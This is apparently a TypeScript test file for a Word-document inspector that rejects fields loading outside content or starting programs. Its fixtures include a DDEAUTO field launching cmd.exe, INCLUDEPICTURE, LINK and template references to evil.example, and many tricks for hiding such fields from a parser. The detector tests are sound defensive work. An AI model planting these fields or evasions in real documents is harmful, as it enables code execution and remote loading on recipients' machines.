// Fields of Word documents that load content or start programs, in documents as Word writes them.
import { expect, it } from 'vitest';
import { inspect } from '#test/files/inspect.ts';
import { type ZipPart, zip } from '#test/files/zip.ts';

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const RELATIONS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
const HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n';
const paragraph = (...content: string[]): string => `<w:p w:rsidR="00A1"><w:pPr><w:jc w:val="left"/></w:pPr>${content.join('')}</w:p>`;
const run = (content: string): string => `<w:r><w:rPr><w:noProof/></w:rPr>${content}</w:r>`;
const part = (root: string, body: string): string => `${HEAD}<w:${root} xmlns:w="${W}" xmlns:r="${OFFICE}">${body}</w:${root}>`;

/** Parts of a document with text, by the names that Word gives them. */
const PARTS = {
  document: ['document', (body: string) => `<w:body>${body}<w:sectPr/></w:body>`],
  header1: ['hdr', (body: string) => body],
  footer1: ['ftr', (body: string) => body],
  comments: ['comments', (body: string) => `<w:comment w:id="0" w:author="Ann">${body}</w:comment>`],
  footnotes: ['footnotes', (body: string) => `<w:footnote w:id="2">${body}</w:footnote>`],
  endnotes: ['endnotes', (body: string) => `<w:endnote w:id="2">${body}</w:endnote>`],
  settings: ['settings', (body: string) => `<w:hdrShapeDefaults>${body}</w:hdrShapeDefaults>`],
  'glossary/document': [
    'glossaryDocument',
    (body: string) => `<w:docParts><w:docPart><w:docPartBody>${body}</w:docPartBody></w:docPart></w:docParts>`,
  ],
} as const satisfies Record<string, readonly [string, (body: string) => string]>;
type Name = keyof typeof PARTS;

const partsOf = (at: Name, body: string, relations: string): ZipPart[] =>
  (Object.keys(PARTS) as Name[])
    .map((name) => {
      const [root, around] = PARTS[name];
      return { name: `word/${name}.xml`, body: part(root, around(name === at ? body : paragraph(run('<w:t>A letter</w:t>')))) };
    })
    .concat([
      {
        name: '[Content_Types].xml',
        body: `${HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${TYPE}.document.main+xml"/></Types>`,
      },
      {
        name: '_rels/.rels',
        body: `${HEAD}<Relationships xmlns="${RELATIONS}"><Relationship Id="rId1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
      },
      { name: 'word/_rels/settings.xml.rels', body: `${HEAD}<Relationships xmlns="${RELATIONS}">${relations}</Relationships>` },
    ]);
/** A whole document with this in one of its parts. */
const word = (body: string, at: Name = 'document', relations = ''): Buffer => zip(partsOf(at, body, relations));

const char = (type: 'begin' | 'separate' | 'end'): string => run(`<w:fldChar w:fldCharType="${type}"/>`);
const code = (text: string): string => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
/** A field whose instruction is in these runs. */
const field = (...pieces: string[]): string =>
  paragraph(
    char('begin'),
    ...pieces.map((piece) => (piece.startsWith('<') ? piece : code(piece))),
    char('separate'),
    run('<w:t>1</w:t>'),
    char('end'),
  );
const simple = (text: string): string => paragraph(`<w:fldSimple w:instr="${text}">${run('<w:t>1</w:t>')}</w:fldSimple>`);

const LOADING = [
  ' INCLUDEPICTURE &quot;https://evil.example/a.png&quot; \\d ',
  ' INCLUDETEXT "C:\\Users\\Ann\\secret.docx" ',
  ' DDE "excel" "Book1" "R1C1" ',
  ' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" ',
  ' LINK Excel.Sheet.12 "https://evil.example/a.xlsx" "Sheet1!R1C1" \\a \\f 0 ',
  ' IMPORT "https://evil.example/a.wmf" ',
  ' DATABASE \\d "https://evil.example/a.mdb" ',
  ' RD "https://evil.example/a.docx" ',
];
const quoted = (text: string): string => text.replaceAll('"', '&quot;');
const [PICTURE, , DDE, DDEAUTO, LINK] = LOADING as [string, string, string, string, string];

const refused: [what: string, document: Buffer][] = [
  ...LOADING.map((text): [string, Buffer] => [`of${text.split(' ', 2).join(' ')}`, word(field(text))]),
  ...LOADING.map((text): [string, Buffer] => [`of${text.split(' ', 2).join(' ')}, in one element`, word(simple(quoted(text)))]),
  ...(Object.keys(PARTS) as Name[]).map((at): [string, Buffer] => [`in ${at}`, word(field(DDEAUTO), at)]),
  ['whose name is in several runs', word(field(' DD', 'E', 'AU', 'TO c:\\cmd.exe'))],
  ['that goes on in another paragraph', word(paragraph(char('begin'), code(' ')) + paragraph(code(' LINK Excel.Sheet.12 x'), char('end')))],
  ['without a result', word(paragraph(char('begin'), code(DDE), char('end')))],
  ['without an end', word(paragraph(char('begin'), code(DDE)))],
  ['without a beginning', word(paragraph(code(DDE)))],
  ['in lower case', word(field(PICTURE.toLowerCase()))],
  ['in another field', word(paragraph(char('begin'), code(' IF 1 = 1 '), char('begin'), code(DDE), char('end'), char('end')))],
  [
    'in the result of another field',
    word(paragraph(char('begin'), code(' PAGE '), char('separate'), char('begin'), code(LINK), char('end'), char('end'))),
  ],
  [
    'whose name another field computes',
    word(paragraph(char('begin'), char('begin'), code(' QUOTE 68 68 69 '), char('end'), code(' excel x'), char('end'))),
  ],
  [
    'whose end another field computes',
    word(paragraph(char('begin'), code(' DD'), char('begin'), code(' QUOTE 69 '), char('end'), code(' excel x'), char('end'))),
  ],
  ['whose name ends with a tab', word(field(' LINK', run('<w:tab/>'), 'Excel.Sheet.12 x'))],
  ['that was deleted with its traces kept', word(paragraph(char('begin'), run('<w:delInstrText> DDE x y</w:delInstrText>'), char('end')))],
  ['as text in the place of an instruction', word(paragraph(char('begin'), run('<w:t>DDE x y</w:t>'), code(' '), char('end')))],
  ['in character data', word(field('<w:r><w:instrText> <![CDATA[DDEAUTO]]> x</w:instrText></w:r>'))],
  ['in references', word(field(' &#68;&#x44;E x y'))],
  ['with another prefix', word(field(DDE).replaceAll('w:', 'x:'))],
  [
    'in UTF-16',
    zip([
      ...partsOf('header1', '', '').filter(({ name }) => name !== 'word/header1.xml'),
      { name: 'word/a.bin', body: Buffer.from(`\ufeff<hdr>${field(LINK)}</hdr>`, 'utf16le').swap16() },
    ]),
  ],
  ['after much else', word(paragraph(run(`<w:t>${'a '.repeat(200_000)}</w:t>`)) + field(DDE))],
];
it.each(refused)('refuses a field %s', async (_, document) => {
  await expect(inspect(document)).rejects.toMatchObject({ reason: 'external-content' });
});

it('refuses a template from a network that the settings attach', async () => {
  const relation = `<Relationship Id="rId1" Type="${OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`;
  const document = word('<w:attachedTemplate r:id="rId1"/>', 'settings', relation);
  await expect(inspect(document)).rejects.toMatchObject({ reason: 'external-template' });
});

it('takes a document with the fields that letters have', async () => {
  const documents = [
    word(field(' PAGE  \\* MERGEFORMAT '), 'footer1'),
    word(field(' HYPERLINK "https://clinic.example/dde" ')),
    word(field(' TOC \\o "1-3" \\h \\z \\u ') + field(' PAGEREF _Toc1 \\h ')),
    word(simple(' DATE \\@ &quot;d MMMM yyyy&quot; ')),
    word(field(' SEQ Figure ') + field(' REF link \\h ') + field(' MERGEFIELD Link ') + field(' LINKED x ')),
    word(
      paragraph(char('begin'), code(' IF '), char('begin'), code(' MERGEFIELD Sex '), char('end'), code(' = "F" "she" "he" '), char('end')),
    ),
    word(field(' PAGE ') + paragraph(run('<w:t>The DDE of 3 May: LINK to INCLUDETEXT</w:t>'))),
    word(paragraph(char('begin'), code(' FORMTEXT '), char('separate'), run('<w:t>DDE x</w:t>'), char('end'))),
  ];
  for (const document of documents) expect((await inspect(document)).type).toContain('wordprocessingml');
});
